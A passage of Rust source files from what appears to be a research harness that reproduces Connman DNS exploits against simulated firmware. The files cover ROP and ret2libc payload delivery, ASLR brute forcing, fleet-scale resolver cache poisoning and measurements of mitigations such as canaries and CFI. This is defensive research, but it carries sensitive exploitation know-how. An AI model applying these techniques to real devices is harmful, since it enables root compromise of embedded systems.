    run_all_jobs(1)
}

/// Runs every experiment in order on `jobs` workers. The matrix
/// experiments (E2/E4/E6/E7) fan their cells across the pool; output is
/// byte-identical to a serial run at any `jobs` value.
pub fn run_all_jobs(jobs: usize) -> Suite {
    run_all_jobs_with(jobs, true)
}

/// [`run_all_jobs`] with an explicit victim boot path for the
/// boot-heavy experiments (currently E8): `snapshot` forks each trial
/// from one boot per configuration instead of booting per trial. Output
/// is byte-identical either way.
pub fn run_all_jobs_with(jobs: usize, snapshot: bool) -> Suite {
    Suite {
        tables: vec![
            e1::run(),
            e2::run_jobs(jobs),
            e3::run(),
            e4::run_jobs(jobs),
            e5::run(),
            e6::run_jobs(jobs),
            e7::run_jobs(jobs),
            e8::run_with(snapshot),
            e9::run_jobs(jobs),
            e10::run_jobs(jobs),
        ],
    }
}

/// Runs one experiment by id (`"e1"`…`"e9"`), if known, serially.
pub fn run_one(id: &str) -> Option<crate::report::Table> {
    run_one_jobs(id, 1)
}

/// Runs one experiment by id on `jobs` workers (ids without a matrix
/// fan-out run serially regardless).
pub fn run_one_jobs(id: &str, jobs: usize) -> Option<crate::report::Table> {
    run_one_jobs_with(id, jobs, true)
}

/// [`run_one_jobs`] with an explicit victim boot path (see
/// [`run_all_jobs_with`]).
pub fn run_one_jobs_with(id: &str, jobs: usize, snapshot: bool) -> Option<crate::report::Table> {
    match id.to_ascii_lowercase().as_str() {
        "e1" => Some(e1::run()),
        "e2" => Some(e2::run_jobs(jobs)),
        "e3" => Some(e3::run()),
        "e4" => Some(e4::run_jobs(jobs)),
        "e5" => Some(e5::run()),
        "e6" => Some(e6::run_jobs(jobs)),
        "e7" => Some(e7::run_jobs(jobs)),
        "e8" => Some(e8::run_with(snapshot)),
        "e9" => Some(e9::run_jobs(jobs)),
        "e10" => Some(e10::run_jobs(jobs)),
        _ => None,
    }
}
