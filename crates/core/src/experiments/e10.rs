//! E10 — upstream-resolver cache poisoning at fleet scale (extension;
//! the XDRI threat model, arXiv 2208.12003).
//!
//! The paper delivers its forged answer directly to one victim; XDRI
//! observes that real fleets resolve through *shared upstream
//! resolvers*, so one poisoned cache entry redirects every dependent
//! device with no per-device malicious delivery. This experiment runs
//! that scenario on the deterministic recursive resolver
//! ([`cml_netsim::resolver`]): a cohort of devices staggers ordinary
//! telemetry lookups through one upstream [`RecursiveResolver`] whose
//! cache the attacker poisons **once** at t = 0 with the relocated
//! exploit response. A device arriving while the injected entry is
//! live receives the exploit as a plain cache hit and falls; a device
//! arriving after the entry expires (TTL) or is evicted (cache
//! pressure from long-TTL benign traffic squeezing the short-TTL
//! poison out first) resolves honestly through the delegation chain
//! and survives.
//!
//! The sweep crosses poison TTL {short, long} × cache capacity
//! {small, large}: TTL bounds the attack window in *time*, capacity
//! bounds it in *traffic*. Every cell reports exactly one malicious
//! delivery — the poisoning itself.

use std::net::Ipv4Addr;

use cml_dns::{Message, Name, Question, RecordType, Zone, ZoneServer};
use cml_exploit::{ExploitStrategy, MaliciousDnsServer, RopMemcpyChain};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
use cml_netsim::{Internet, RecursiveResolver, SimTime, TICKS_PER_SEC};

use crate::lab::Lab;
use crate::report::Table;
use crate::runner::{derive_seed, Runner};

/// Devices in each cell's cohort.
const DEVICES: u64 = 200;

/// Event-clock spacing between device arrivals (50 ms).
const SPACING: SimTime = 50_000;

/// Benign lookups other tenants push through the resolver between
/// consecutive device arrivals — the cache pressure.
const NOISE_PER_ARRIVAL: u64 = 4;

/// TTL of the benign noise records: longer than either poison TTL, so
/// at capacity the soonest-expiring victim is always the poison.
const NOISE_TTL_SECS: u32 = 86_400;

/// One sweep cell.
struct Cell {
    label: &'static str,
    poison_ttl_secs: u32,
    cache_capacity: usize,
}

const CELLS: [Cell; 4] = [
    Cell {
        label: "long TTL / large cache",
        poison_ttl_secs: 60,
        cache_capacity: 1024,
    },
    Cell {
        label: "long TTL / small cache",
        poison_ttl_secs: 60,
        cache_capacity: 16,
    },
    Cell {
        label: "short TTL / large cache",
        poison_ttl_secs: 2,
        cache_capacity: 1024,
    },
    Cell {
        label: "short TTL / small cache",
        poison_ttl_secs: 2,
        cache_capacity: 16,
    },
];

/// The delegation tree every cell resolves against: root → `example`
/// TLD → authoritative `vendor.example` carrying the telemetry record
/// and the long-TTL noise records.
fn build_internet() -> Internet {
    let root_addr = Ipv4Addr::new(198, 41, 0, 4);
    let tld_addr = Ipv4Addr::new(192, 5, 6, 30);
    let vendor_addr = Ipv4Addr::new(203, 0, 113, 53);

    let mut root = Zone::rooted("");
    root.ns("example", 172_800, "a.gtld.example")
        .a("a.gtld.example", 172_800, tld_addr);

    let mut tld = Zone::rooted("example");
    tld.ns("vendor.example", 86_400, "ns1.vendor.example").a(
        "ns1.vendor.example",
        86_400,
        vendor_addr,
    );

    let mut vendor = Zone::rooted("vendor.example");
    vendor
        .a(
            "telemetry.vendor.example",
            300,
            Ipv4Addr::new(203, 0, 113, 7),
        )
        .a("ns1.vendor.example", 86_400, vendor_addr);
    for k in 0..DEVICES * NOISE_PER_ARRIVAL {
        vendor.a(
            &format!("noise{k}.vendor.example"),
            NOISE_TTL_SECS,
            Ipv4Addr::new(203, 0, 114, (k % 250) as u8),
        );
    }

    let mut net = Internet::new(root_addr);
    net.add_server(root_addr, ZoneServer::new(root))
        .add_server(tld_addr, ZoneServer::new(tld))
        .add_server(vendor_addr, ZoneServer::new(vendor));
    net
}

/// What one cell's campaign produced.
struct CellResult {
    label: &'static str,
    poison_ttl_secs: u32,
    cache_capacity: usize,
    compromised: u64,
    /// Event-clock time of the last compromise (ticks), if any device
    /// fell.
    last_shell_at: Option<SimTime>,
    upstream_queries: u64,
    cache_hits: u64,
    malicious_deliveries: u64,
}

/// Runs one cell: poison at t = 0, then `DEVICES` staggered arrivals
/// under `NOISE_PER_ARRIVAL` benign lookups each.
fn run_cell(cell: &Cell, base_seed: u64, cell_idx: u64) -> CellResult {
    let cell_seed = derive_seed(base_seed, cell_idx);
    let mut net = build_internet();
    let mut resolver = RecursiveResolver::new(cell_seed, cell.cache_capacity);

    // The victims: one boot, forked per device (the fleet fast path).
    let protections = Protections::full();
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
    let mut forge = fw.forge(protections, cell_seed);
    let host = Name::parse("telemetry.vendor.example").expect("static name");

    // The attacker: recon the replica, relocate the payload, craft ONE
    // malicious response, inject it — then never transmit again.
    let target = Lab::new(FirmwareKind::OpenElec, Arch::Armv7)
        .with_protections(protections)
        .recon()
        .expect("vulnerable replica recon succeeds");
    let payload = RopMemcpyChain::new(Arch::Armv7)
        .build(&target)
        .expect("payload builds against the replica");
    let mut evil = MaliciousDnsServer::new(&payload).expect("payload labelizes");
    let probe = match forge
        .fork(derive_seed(cell_seed, 0))
        .resolve(&host, RecordType::A)
    {
        cml_connman::Resolution::Query(q) => q,
        cml_connman::Resolution::Cached(_) => unreachable!("fresh fork has an empty cache"),
    };
    let forged = evil.handle(&probe).expect("server answers the probe");
    assert!(
        resolver.poison(&probe, &forged, cell.poison_ttl_secs),
        "the poisoning event sticks"
    );

    let mut compromised = 0u64;
    let mut last_shell_at = None;
    let mut noise_id = 0u64;
    let mut buf = Vec::new();
    for d in 0..DEVICES {
        resolver.advance_to((d + 1) * SPACING);
        // Other tenants' traffic between arrivals: distinct long-TTL
        // names, each a full recursive miss that fills the cache.
        for _ in 0..NOISE_PER_ARRIVAL {
            let noise = Name::parse(&format!("noise{noise_id}.vendor.example"))
                .expect("noise names are static and valid");
            noise_id += 1;
            let nq = Message::query(
                (noise_id % 0xFFFF) as u16 + 1,
                Question::new(noise, RecordType::A),
            )
            .encode()
            .expect("query encodes");
            resolver.handle_query_into(&mut net, &nq, &mut buf);
        }
        // The device's ordinary telemetry lookup through the shared
        // upstream.
        let daemon = forge.fork(derive_seed(cell_seed, d));
        let query = match daemon.resolve(&host, RecordType::A) {
            cml_connman::Resolution::Query(q) => q,
            cml_connman::Resolution::Cached(_) => unreachable!("fresh fork has an empty cache"),
        };
        if resolver.handle_query_into(&mut net, &query, &mut buf) {
            let outcome = daemon.deliver_response(&buf);
            if outcome.is_root_shell() {
                compromised += 1;
                last_shell_at = Some(resolver.now());
            }
        }
    }
    resolver.clear_trace();
    CellResult {
        label: cell.label,
        poison_ttl_secs: cell.poison_ttl_secs,
        cache_capacity: cell.cache_capacity,
        compromised,
        last_shell_at,
        upstream_queries: resolver.stats().upstream_queries,
        cache_hits: resolver.cache().stats().hits,
        malicious_deliveries: evil.stats().exploit_responses,
    }
}

/// Runs the experiment serially.
pub fn run() -> Table {
    run_jobs(1)
}

/// Runs the sweep on `jobs` workers, one cell per work item. Cells are
/// self-contained simulations merged in order, so the table is
/// byte-identical at any worker count.
pub fn run_jobs(jobs: usize) -> Table {
    let base_seed = 0xD05ED;
    let runner = Runner::new(jobs);
    let results = runner.run(CELLS.iter().collect(), |idx, cell: &Cell| {
        run_cell(cell, base_seed, idx as u64)
    });
    let mut t = Table::new(
        "E10",
        "upstream-resolver cache poisoning: time-to-fleet-compromise vs TTL and cache size",
        &[
            "cell",
            "ttl",
            "cache",
            "devices",
            "compromised",
            "t-fleet",
            "upstream q",
            "cache hits",
            "malicious tx",
        ],
    );
    for r in &results {
        let t_fleet = match r.last_shell_at {
            Some(ticks) if r.compromised == DEVICES => {
                format!("{:.2}s", ticks as f64 / TICKS_PER_SEC as f64)
            }
            Some(ticks) => format!("({:.2}s partial)", ticks as f64 / TICKS_PER_SEC as f64),
            None => "—".to_string(),
        };
        t.row([
            r.label.to_string(),
            format!("{}s", r.poison_ttl_secs),
            r.cache_capacity.to_string(),
            DEVICES.to_string(),
            r.compromised.to_string(),
            t_fleet,
            r.upstream_queries.to_string(),
            r.cache_hits.to_string(),
            r.malicious_deliveries.to_string(),
        ]);
    }
    t.note(format!(
        "One poisoning event per cell — the malicious server transmits exactly \
         once, then every compromise is a cache-hit replay. With a long TTL and \
         a large cache the single injected record fells the entire \
         {DEVICES}-device cohort; shortening the TTL closes the window in time \
         (arrivals after expiry resolve honestly through the root → TLD → \
         authoritative chain), and shrinking the cache closes it in traffic \
         (the long-TTL benign noise makes the short-TTL poison the \
         soonest-expiring eviction victim). Timings ride the deterministic \
         event clock, so every cell is byte-identical at any --jobs."
    ));
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_is_byte_identical_serial_vs_parallel() {
        assert_eq!(run_jobs(1).to_markdown(), run_jobs(2).to_markdown());
        assert_eq!(run_jobs(1).to_markdown(), run_jobs(4).to_markdown());
    }

    #[test]
    fn poisoning_window_narrows_with_ttl_and_cache_size() {
        let t = run();
        assert_eq!(t.rows.len(), 4);
        let compromised: Vec<u64> = t.rows.iter().map(|r| r[4].parse().unwrap()).collect();
        // The headline: one injection, the whole cohort falls, and the
        // malicious server transmitted exactly once.
        assert_eq!(
            compromised[0], DEVICES,
            "long TTL + large cache compromises every device"
        );
        for row in &t.rows {
            assert_eq!(row[8], "1", "exactly one malicious delivery: {row:?}");
        }
        // Cache pressure evicts the poison early.
        assert!(
            compromised[1] < compromised[0],
            "small cache narrows the window: {compromised:?}"
        );
        // TTL expiry closes the window in time.
        assert!(
            compromised[2] < compromised[0],
            "short TTL narrows the window: {compromised:?}"
        );
        // Both pressures together are no wider than either alone.
        assert!(compromised[3] <= compromised[1] && compromised[3] <= compromised[2]);
        // Devices the poison missed still resolved and survived: the
        // resolver did real upstream work in the narrow cells.
        let upstream: Vec<u64> = t.rows.iter().map(|r| r[6].parse().unwrap()).collect();
        assert!(upstream.iter().all(|&q| q > 0), "noise traffic resolves");
    }
}
