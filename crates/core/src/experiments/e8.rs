//! E8 — brute-forcing ASLR with ret2libc (extension; cf. related work
//! §VI, where a D-Link PoC "bypasses W⊕X and ASLR … by brute-force").
//!
//! Without an information leak an attacker can only guess the libc
//! slide. We sweep the ASLR entropy and measure the observed success
//! rate of a fixed-guess ret2libc payload over many boots; the expected
//! rate is 1/(2^bits − 1) (our loader never draws the zero slide).

use cml_exploit::target::deliver_labels;
use cml_exploit::{PayloadTemplate, Ret2Libc, Slides, TargetInfo};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};
use cml_vm::AslrConfig;

use crate::report::Table;

/// Boots attacked per entropy setting.
const TRIALS: u64 = 48;

/// The slide the attacker bets on, in pages.
const GUESSED_PAGES: u32 = 1;

/// Runs the experiment (snapshot/fork boot path).
pub fn run() -> Table {
    run_with(true)
}

/// Runs the experiment, choosing the victim boot path: `snapshot` forks
/// each trial from one boot per entropy level (restore + reslide);
/// otherwise every trial pays for a full boot. Output is byte-identical
/// either way — that equivalence is what `tests/snapshot.rs` pins down.
pub fn run_with(snapshot: bool) -> Table {
    let mut t = Table::new(
        "E8",
        "ASLR brute force: ret2libc success rate vs. entropy (x86)",
        &[
            "entropy bits",
            "trials",
            "shells",
            "observed rate",
            "expected rate",
        ],
    );
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    // Recon once on a no-ASLR replica for geometry and link addresses.
    let fw2 = fw.clone();
    let base_info = TargetInfo::gather(fw.image(), move || fw2.boot(Protections::wxorx(), 0xA11C))
        .expect("vulnerable firmware");

    // The payload is compiled once into a relocatable template; the
    // attacker's guess — every libc address shifted by the same
    // candidate slide — is then a slide relocation, not a rebuild.
    let template =
        PayloadTemplate::compile(&Ret2Libc::new(), &base_info).expect("payload templates");
    let guess = Slides {
        libc: (GUESSED_PAGES as i64) * 0x1000,
        ..Slides::identity()
    };
    let labels = template.instantiate(&guess).expect("labelizes");

    for bits in [2u32, 3, 4, 6, 8] {
        let protections = Protections {
            aslr: AslrConfig::with_entropy(bits),
            ..Protections::wxorx()
        };
        let mut shells = 0u64;
        let mut forge = snapshot.then(|| fw.forge(protections, 0x5EED_0000));
        for seed in 0..TRIALS {
            let boot_seed = 0x5EED_0000 + seed;
            let outcome = match &mut forge {
                // Boot once per entropy level, fork per trial.
                Some(forge) => deliver_labels(forge.fork(boot_seed), labels.clone()),
                None => deliver_labels(&mut fw.boot(protections, boot_seed), labels.clone()),
            };
            if outcome.is_some_and(|out| out.is_root_shell()) {
                shells += 1;
            }
        }
        let expected = 1.0 / ((1u64 << bits) - 1) as f64;
        t.row([
            bits.to_string(),
            TRIALS.to_string(),
            shells.to_string(),
            format!("{:.3}", shells as f64 / TRIALS as f64),
            format!("{expected:.3}"),
        ]);
    }
    t.note(format!(
        "Each trial guesses a fixed {GUESSED_PAGES}-page libc slide; a shell \
         appears only when the victim's boot drew exactly that slide. The \
         observed rate tracks 1/(2^bits-1), shrinking geometrically — the \
         reason the paper's ROP-over-fixed-sections approach matters: it \
         needs no guessing at all.",
    ));
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn snapshot_and_fresh_boot_tables_are_byte_identical() {
        assert_eq!(run_with(true).to_markdown(), run_with(false).to_markdown());
    }

    #[test]
    fn success_rate_decays_with_entropy() {
        let t = run();
        let shells: Vec<u64> = t.rows.iter().map(|r| r[2].parse().unwrap()).collect();
        // Low entropy hits sometimes; high entropy almost never.
        assert!(shells[0] >= 1, "2 bits: expect some hits, got {shells:?}");
        assert!(shells[4] <= 2, "8 bits: expect ~0 hits, got {shells:?}");
        assert!(
            shells.first() >= shells.last(),
            "monotone-ish decay: {shells:?}"
        );
    }
}
