//! E5 — the generated exploit chains, annotated like Listings 2–5.
//!
//! The paper prints its payloads as annotated byte listings; this
//! experiment regenerates the equivalent listings from the actual
//! payload builders, with the addresses the reconnaissance discovered.

use cml_exploit::{ArmGadgetExeclp, CodeInjection, ExploitStrategy, Ret2Libc, RopMemcpyChain};
use cml_firmware::{Arch, FirmwareKind, Protections};

use crate::lab::Lab;
use crate::report::Table;

/// Runs the experiment.
pub fn run() -> Table {
    let mut t = Table::new(
        "E5",
        "generated payload listings (Listings 2-5 equivalents)",
        &[
            "paper listing",
            "strategy",
            "arch",
            "payload bytes",
            "labels",
        ],
    );
    let cases: Vec<(&str, Arch, Box<dyn ExploitStrategy>, Protections)> = vec![
        (
            "(shellcode, §III-A)",
            Arch::X86,
            Box::new(CodeInjection::new(Arch::X86)),
            Protections::none(),
        ),
        (
            "(ret2libc, §III-B1)",
            Arch::X86,
            Box::new(Ret2Libc::new()),
            Protections::wxorx(),
        ),
        (
            "Listing 2",
            Arch::Armv7,
            Box::new(ArmGadgetExeclp::new()),
            Protections::wxorx(),
        ),
        (
            "Listings 3-4",
            Arch::X86,
            Box::new(RopMemcpyChain::new(Arch::X86)),
            Protections::full(),
        ),
        (
            "Listing 5",
            Arch::Armv7,
            Box::new(RopMemcpyChain::new(Arch::Armv7)),
            Protections::full(),
        ),
    ];
    for (listing, arch, strategy, protections) in cases {
        let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(protections);
        match lab
            .recon()
            .and_then(|target| strategy.build(&target).map_err(crate::lab::LabError::Build))
        {
            Ok(payload) => {
                let labels = payload.to_labels().map(|l| l.len()).unwrap_or(0);
                t.row([
                    listing.to_string(),
                    strategy.name().to_string(),
                    arch.to_string(),
                    payload.image().len().to_string(),
                    labels.to_string(),
                ]);
                t.note(format!("```\n{}```", payload.listing()));
            }
            Err(e) => {
                t.row([
                    listing.to_string(),
                    strategy.name().to_string(),
                    arch.to_string(),
                    format!("error: {e}"),
                    "-".into(),
                ]);
            }
        }
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn listings_are_generated_for_all_chains() {
        let t = run();
        assert_eq!(t.rows.len(), 5);
        assert_eq!(t.notes.len(), 5, "every row has its listing note");
        let all = t.notes.join("\n");
        assert!(all.contains("Pop r0-r7, pc"), "Listing 2 shape");
        assert!(all.contains("memcpy@plt"), "Listing 3/5 shape");
        assert!(all.contains("execlp@plt"), "Listing 4 shape");
        assert!(all.contains("__libc_system"), "ret2libc shape");
    }
}
