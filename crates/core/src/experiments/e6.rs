//! E6 — the §IV mitigations, implemented and measured (extension).
//!
//! The paper proposes hardware-supported CFI and stack protections as
//! future defenses. Our VM implements both (a shadow stack and per-boot
//! canaries); this experiment shows each strategy against each
//! mitigation added on top of W⊕X + ASLR.

use cml_exploit::target::deliver_labels;
use cml_exploit::{strategies_for, TargetInfo};
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};

use crate::lab::{AttackOutcome, Lab};
use crate::report::Table;
use crate::runner::{derive_seed, Runner};

/// Columns per row for seed derivation (4 protection cells + diversity).
const CELLS_PER_ROW: u64 = 8;

/// Runs the experiment serially.
pub fn run() -> Table {
    run_jobs(1)
}

/// Runs the experiment on `jobs` workers; one work item per
/// (arch, technique) row, byte-identical output at any width.
pub fn run_jobs(jobs: usize) -> Table {
    let mut t = Table::new(
        "E6",
        "mitigations (paper §IV): canary, CFI, PIE and software diversity vs. each technique",
        &[
            "arch",
            "technique",
            "W^X+ASLR",
            "+canary",
            "+CFI",
            "+PIE",
            "+diversity",
        ],
    );
    let mut matrix = Vec::new();
    for arch in Arch::ALL {
        for strat_idx in 0..strategies_for(arch).len() {
            matrix.push((arch, strat_idx));
        }
    }
    let rows = Runner::new(jobs).run(matrix, |row_id, (arch, strat_idx)| {
        let strategy = &strategies_for(arch)[strat_idx];
        let mut cells = Vec::new();
        for (col, protections) in [
            Protections::full(),
            Protections::full().with_canary(),
            Protections::full().with_cfi(),
            Protections::full().with_pie(),
        ]
        .into_iter()
        .enumerate()
        {
            let seed = derive_seed(
                crate::lab::VICTIM_SEED,
                row_id as u64 * CELLS_PER_ROW + col as u64,
            );
            let lab = Lab::new(FirmwareKind::OpenElec, arch)
                .with_protections(protections)
                .with_victim_seed(seed);
            let cell = match lab.run_exploit(strategy.as_ref()) {
                Ok(r) if r.outcome == AttackOutcome::RootShell => "SHELL".to_string(),
                Ok(r) => match r.proxy_outcome {
                    cml_connman::ProxyOutcome::Crashed(ref report) => match report.fault {
                        cml_vm::Fault::CanarySmashed { .. } => "blocked (canary)".into(),
                        cml_vm::Fault::CfiViolation { .. } => "blocked (CFI)".into(),
                        _ => format!("crash ({})", short_fault(&report.fault)),
                    },
                    _ => r.outcome.to_string(),
                },
                Err(e) => format!("error: {e}"),
            };
            cells.push(cell);
        }
        // Diversity (paper §IV, artificial software diversity): the
        // payload is built against build variant 0 but the victim
        // runs a differently-compiled variant 1.
        let diversity = {
            let victim_seed =
                derive_seed(crate::lab::VICTIM_SEED, row_id as u64 * CELLS_PER_ROW + 4);
            let fw0 = Firmware::build_variant(FirmwareKind::OpenElec, arch, 0);
            let fw1 = Firmware::build_variant(FirmwareKind::OpenElec, arch, 1);
            let fw0b = fw0.clone();
            TargetInfo::gather(fw0.image(), move || fw0b.boot(Protections::full(), 0xA11C))
                .map_err(|e| e.to_string())
                .and_then(|info| {
                    strategy
                        .build(&info)
                        .map_err(|e| e.to_string())?
                        .to_labels()
                        .map_err(|e| e.to_string())
                })
                .map(|labels| {
                    let mut victim = fw1.boot(Protections::full(), victim_seed);
                    match deliver_labels(&mut victim, labels) {
                        Some(o) if o.is_root_shell() => "SHELL".to_string(),
                        Some(_) => "blocked (diversity)".to_string(),
                        None => "no query".to_string(),
                    }
                })
                .unwrap_or_else(|e| format!("error: {e}"))
        };
        cells.push(diversity);
        vec![
            arch.to_string(),
            strategy.name().to_string(),
            cells[0].clone(),
            cells[1].clone(),
            cells[2].clone(),
            cells[3].clone(),
            cells[4].clone(),
        ]
    });
    for row in rows {
        t.row(row);
    }
    t.note(
        "Only the ROP chain penetrates W^X+ASLR; every §IV-class defense stops \
         it: the canary aborts in __stack_chk_fail, the shadow stack rejects \
         the first hijacked return, PIE moves the \"fixed\" sections the chain \
         depends on, and compile-time software diversity (a different build of \
         the same source) moves the gadgets — \"a successful attack is not \
         guaranteed to work on multiple systems\".",
    );
    t
}

fn short_fault(f: &cml_vm::Fault) -> &'static str {
    match f {
        cml_vm::Fault::NxViolation { .. } => "NX",
        cml_vm::Fault::UnmappedFetch { .. } => "bad pc",
        cml_vm::Fault::UnmappedRead { .. } | cml_vm::Fault::UnmappedWrite { .. } => "bad access",
        cml_vm::Fault::IllegalInstruction { .. } => "illegal insn",
        _ => "fault",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mitigations_block_the_rop_chain() {
        let t = run();
        for row in &t.rows {
            if row[1] == "rop-memcpy-chain" {
                assert_eq!(row[2], "SHELL", "{row:?}");
                assert_eq!(row[3], "blocked (canary)", "{row:?}");
                assert_eq!(row[4], "blocked (CFI)", "{row:?}");
                assert_ne!(row[5], "SHELL", "PIE must block the chain: {row:?}");
                assert_eq!(row[6], "blocked (diversity)", "{row:?}");
            } else {
                assert_ne!(
                    row[2], "SHELL",
                    "weaker techniques die at W^X+ASLR: {row:?}"
                );
                assert_ne!(row[6], "SHELL", "{row:?}");
            }
        }
    }
}
