//! E9 — a cohort-structured fleet campaign (extension; the paper's
//! closing Mirai remark at population scale).
//!
//! The million-device runner (DESIGN.md §16) sweeps cohorts that mix
//! firmware versions, mitigation configs, packet-loss profiles and
//! boot-entropy models, and streams per-cohort accumulators. This
//! experiment runs the same campaign shape at a CI-friendly 10,000
//! devices and reports the per-cohort compromise rates; the spec string
//! below is exactly what `cml fleet --cohorts` accepts.

use crate::fleet::{run_fleet, CohortSpec, FleetSpec};
use crate::report::Table;

/// The campaign: the BENCH_8 heterogeneous mix at 1% scale, with
/// explicit boot-entropy and loss profiles per cohort.
const COHORTS: &str = "tv=openelec/armv7/full/4000/entropy=6,\
                       thermostat=yocto/x86/wxorx/3000/entropy=6,\
                       settop=tizen/armv7/full/2000/loss=2%/entropy=6,\
                       camera=patched/armv7/full/1000/entropy=6";

/// Runs the experiment serially.
pub fn run() -> Table {
    run_jobs(1)
}

/// Runs the campaign on `jobs` workers. The streamed per-cohort report
/// is byte-identical at any worker count, so the table is too.
pub fn run_jobs(jobs: usize) -> Table {
    let spec = FleetSpec {
        base_seed: 0xF1EE7,
        cohorts: CohortSpec::parse_list(COHORTS).expect("cohort spec parses"),
    };
    let classes: u64 = spec.cohorts.iter().map(|c| c.classes()).sum();
    let report = run_fleet(&spec, jobs);
    let mut t = report.to_table(
        "E9",
        "cohort campaign: per-cohort compromise rates (10k devices)",
    );
    t.note(format!(
        "Four cohorts, one rogue AP: every vulnerable device that hears the \
         forged answer falls, the patched build refuses it, and the lossy \
         set-top cohort loses a deterministic ~2% of responses to the air. \
         {} devices resolved through {classes} boot-layout classes (6 bits \
         of boot entropy per cohort); the full-scale run and its ablations \
         are recorded in BENCH_8.json.",
        report.devices,
    ));
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_is_byte_identical_serial_vs_parallel() {
        assert_eq!(run_jobs(1).to_markdown(), run_jobs(4).to_markdown());
    }

    #[test]
    fn cohort_rates_match_the_threat_model() {
        let t = run();
        // Rows: tv, thermostat, settop, camera. Columns: cohort,
        // firmware, arch, protections, devices, compromised, rate,
        // alive, lost.
        let shells: Vec<u64> = t.rows.iter().map(|r| r[5].parse().unwrap()).collect();
        assert_eq!(shells[0], 4000, "every vulnerable TV falls");
        assert_eq!(shells[1], 3000, "every thermostat falls");
        let lost: u64 = t.rows[2][8].parse().unwrap();
        assert_eq!(shells[2] + lost, 2000, "set-tops: compromised or lost");
        assert!(lost > 0, "the 2% loss profile actually fires");
        assert_eq!(shells[3], 0, "patched cameras survive");
    }
}
