//! E4 — the firmware survey: which shipped OSes are exploitable.
//!
//! "We found three major embedded operating systems that still contain
//! vulnerable versions of Connman: the Yocto project … compiles
//! distributions with Connman 1.31; OpenELEC … comes with Connman 1.34
//! …; Tizen OS … utilizes a vulnerable version of Connman up until
//! version 4.0."

use cml_exploit::RopMemcpyChain;
use cml_firmware::{Arch, FirmwareKind, Protections};

use crate::lab::{AttackOutcome, Lab, LabError};
use crate::report::Table;
use crate::runner::{derive_seed, Runner};

/// Runs the experiment serially.
pub fn run() -> Table {
    run_jobs(1)
}

/// Runs the experiment on `jobs` workers; output is byte-identical to
/// the serial run (derived per-cell seeds, ordered merge).
pub fn run_jobs(jobs: usize) -> Table {
    let mut t = Table::new(
        "E4",
        "firmware survey: exploitability per shipped OS (ROP chain, W^X+ASLR)",
        &["firmware", "connman", "vulnerable?", "x86", "ARMv7"],
    );
    let mut matrix = Vec::new();
    for kind in FirmwareKind::ALL {
        for arch in Arch::ALL {
            matrix.push((kind, arch));
        }
    }
    let cells = Runner::new(jobs).run(matrix, |cell_id, (kind, arch)| {
        let lab = Lab::new(kind, arch)
            .with_protections(Protections::full())
            .with_victim_seed(derive_seed(crate::lab::VICTIM_SEED, cell_id as u64));
        match lab.run_exploit(&RopMemcpyChain::new(arch)) {
            Ok(report) if report.outcome == AttackOutcome::RootShell => "root shell".to_string(),
            Ok(report) => report.outcome.to_string(),
            Err(LabError::Recon(_)) => "not exploitable (recon finds no crash)".into(),
            Err(e) => format!("error: {e}"),
        }
    });
    for (ki, kind) in FirmwareKind::ALL.into_iter().enumerate() {
        let per_arch = &cells[ki * Arch::ALL.len()..(ki + 1) * Arch::ALL.len()];
        t.row([
            kind.os_name().to_string(),
            kind.connman_version().to_string(),
            if kind.is_vulnerable() { "yes" } else { "no" }.to_string(),
            per_arch[0].clone(),
            per_arch[1].clone(),
        ]);
    }
    t.note(
        "All three surveyed OS families fall to the strongest exploit even \
         with W^X and ASLR on, months after the CVE was published; only the \
         1.35-based build resists — matching the paper's persistence claim.",
    );
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn survey_matches_paper() {
        let t = run();
        assert_eq!(t.rows.len(), 4);
        for row in &t.rows {
            if row[2] == "yes" {
                assert_eq!(row[3], "root shell", "{row:?}");
                assert_eq!(row[4], "root shell", "{row:?}");
            } else {
                assert!(row[3].contains("not exploitable"), "{row:?}");
            }
        }
    }
}
