//! E4 — the firmware survey: which shipped OSes are exploitable.
//!
//! "We found three major embedded operating systems that still contain
//! vulnerable versions of Connman: the Yocto project … compiles
//! distributions with Connman 1.31; OpenELEC … comes with Connman 1.34
//! …; Tizen OS … utilizes a vulnerable version of Connman up until
//! version 4.0."

use cml_exploit::RopMemcpyChain;
use cml_firmware::{Arch, FirmwareKind, Protections};

use crate::lab::{AttackOutcome, Lab, LabError};
use crate::report::Table;

/// Runs the experiment.
pub fn run() -> Table {
    let mut t = Table::new(
        "E4",
        "firmware survey: exploitability per shipped OS (ROP chain, W^X+ASLR)",
        &["firmware", "connman", "vulnerable?", "x86", "ARMv7"],
    );
    for kind in FirmwareKind::ALL {
        let mut cells = Vec::new();
        for arch in Arch::ALL {
            let lab = Lab::new(kind, arch).with_protections(Protections::full());
            let cell = match lab.run_exploit(&RopMemcpyChain::new(arch)) {
                Ok(report) if report.outcome == AttackOutcome::RootShell => "root shell".into(),
                Ok(report) => report.outcome.to_string(),
                Err(LabError::Recon(_)) => "not exploitable (recon finds no crash)".into(),
                Err(e) => format!("error: {e}"),
            };
            cells.push(cell);
        }
        t.row([
            kind.os_name().to_string(),
            kind.connman_version().to_string(),
            if kind.is_vulnerable() { "yes" } else { "no" }.to_string(),
            cells[0].clone(),
            cells[1].clone(),
        ]);
    }
    t.note(
        "All three surveyed OS families fall to the strongest exploit even \
         with W^X and ASLR on, months after the CVE was published; only the \
         1.35-based build resists — matching the paper's persistence claim.",
    );
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn survey_matches_paper() {
        let t = run();
        assert_eq!(t.rows.len(), 4);
        for row in &t.rows {
            if row[2] == "yes" {
                assert_eq!(row[3], "root shell", "{row:?}");
                assert_eq!(row[4], "root shell", "{row:?}");
            } else {
                assert!(row[3].contains("not exploitable"), "{row:?}");
            }
        }
    }
}
