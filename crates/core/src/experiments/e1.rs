//! E1 — denial of service with an oversized Type-A response.
//!
